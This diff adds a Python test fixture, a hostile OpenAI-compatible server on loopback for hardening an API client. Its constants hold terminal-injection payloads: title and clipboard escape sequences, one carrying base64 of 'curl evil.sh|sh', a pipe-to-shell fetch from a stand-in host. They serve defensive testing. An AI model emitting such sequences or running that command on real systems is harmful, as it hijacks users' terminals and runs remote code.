@@ -1,0 +1,141 @@
+"""A small hostile OpenAI-compatible server on loopback, for client-mode hardening tests.
+
+Each test describes what the server answers; the server speaks raw HTTP/1.1 over a real socket,
+so it can send what a well-behaved framework never would (escape sequences in model ids and
+error bodies, endless streams, lines without ends, one byte at a time).
+
+    with HostileServer(models=[{"id": "evil\\x1b]0;x\\x07"}], chat=stream_of(["Hi"])) as url:
+        ...  # url is http://127.0.0.1:PORT/v1
+"""
+
+from __future__ import annotations
+
+import json
+import socket
+import threading
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+from typing import Callable, Iterable, Iterator
+
+# A chat handler gets the parsed request body and returns (status, headers, body chunks).
+ChatAnswer = tuple[int, dict, Iterable[bytes]]
+ChatHandler = Callable[[dict], ChatAnswer]
+
+# What an attacker puts in strings: retitle the pane (OSC 0), write the clipboard (OSC 52),
+# erase the current line (CSI 2K + CR), and a right-to-left override.
+OSC_TITLE = "\x1b]0;PWNED-TITLE\x07"
+OSC_CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsLnNofHNo\x07"  # base64 of "curl evil.sh|sh"
+ERASE_LINE = "\x1b[2K\r"
+RLO = "\u202e"
+EVIL = OSC_TITLE + OSC_CLIPBOARD + ERASE_LINE + RLO
+
+
+def sse_chunk(payload: dict | str) -> bytes:
+    data = payload if isinstance(payload, str) else json.dumps(payload)
+    return f"data: {data}\n\n".encode()
+
+
+def text_chunk(text: str, finish: str | None = None) -> bytes:
+    return sse_chunk({"object": "chat.completion.chunk",
+                      "choices": [{"index": 0, "delta": {"content": text}, "finish_reason": finish}]})
+
+
+def stream_of(pieces: list[str], *, tail: Iterable[bytes] = (sse_chunk("[DONE]"),)) -> ChatHandler:
+    """A well-formed streamed reply of `pieces`, then `tail`."""
+
+    def handler(_body: dict) -> ChatAnswer:
+        chunks = [text_chunk(p) for p in pieces] + [text_chunk("", "stop"), *tail]
+        return 200, {"Content-Type": "text/event-stream"}, chunks
+
+    return handler
+
+
+def error_reply(status: int, message: str) -> ChatHandler:
+    def handler(_body: dict) -> ChatAnswer:
+        body = json.dumps({"error": {"message": message, "type": "invalid_request_error"}}).encode()
+        return status, {"Content-Type": "application/json"}, [body]
+
+    return handler
+
+
+class HostileServer:
+    """Serve `models` at /v1/models (or `models_answer` = (status, body bytes)) and `chat` at
+    /v1/chat/completions. Records each chat request body in `requests`."""
+
+    def __init__(self, models: list[dict] | None = None, chat: ChatHandler | None = None,
+                 models_answer: tuple[int, bytes] | None = None) -> None:
+        self.models = models if models is not None else [{"id": "m", "object": "model"}]
+        self.chat = chat or stream_of(["Hello"])
+        self.models_answer = models_answer
+        self.requests: list[dict] = []
+        self.closed_early = threading.Event()  # the client hung up during a streamed answer
+        server = self
+
+        class Handler(BaseHTTPRequestHandler):
+            protocol_version = "HTTP/1.1"
+
+            def log_message(self, *args) -> None:  # quiet
+                pass
+
+            def _send(self, status: int, headers: dict, chunks: Iterable[bytes]) -> None:
+                self.send_response(status)
+                for k, v in headers.items():
+                    self.send_header(k, v)
+                self.send_header("Connection", "close")
+                self.end_headers()
+                try:
+                    for chunk in chunks:
+                        self.wfile.write(chunk)
+                        self.wfile.flush()
+                except (BrokenPipeError, ConnectionResetError):
+                    server.closed_early.set()
+                self.close_connection = True
+
+            def do_GET(self) -> None:
+                if self.path.rstrip("/").endswith("/models"):
+                    if server.models_answer is not None:
+                        status, body = server.models_answer
+                        self._send(status, {"Content-Type": "application/json"}, [body])
+                        return
+                    body = json.dumps({"object": "list", "data": server.models}).encode()
+                    self._send(200, {"Content-Type": "application/json"}, [body])
+                    return
+                self._send(404, {"Content-Type": "text/plain"}, [b"not found"])
+
+            def do_POST(self) -> None:
+                length = int(self.headers.get("Content-Length") or 0)
+                raw = self.rfile.read(length) if length else b""
+                try:
+                    body = json.loads(raw or b"{}")
+                except ValueError:
+                    body = {}
+                server.requests.append(body)
+                if self.path.rstrip("/").endswith("/chat/completions"):
+                    self._send(*server.chat(body))
+                    return
+                self._send(404, {"Content-Type": "text/plain"}, [b"not found"])
+
+        self._httpd = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
+        self._httpd.daemon_threads = True
+        self.port = self._httpd.server_address[1]
+        self.url = f"http://127.0.0.1:{self.port}/v1"
+        self._thread = threading.Thread(target=self._httpd.serve_forever, daemon=True)
+
+    def __enter__(self) -> str:
+        self._thread.start()
+        return self.url
+
+    def __exit__(self, *exc) -> None:
+        self._httpd.shutdown()
+        self._httpd.server_close()
+
+
+def endless(chunk: bytes) -> Iterator[bytes]:
+    """The same chunk forever (until the client hangs up)."""
+    while True:
+        yield chunk
+
+
+def free_port() -> int:
+    with socket.socket() as s:
+        s.bind(("127.0.0.1", 0))
+        return s.getsockname()[1]
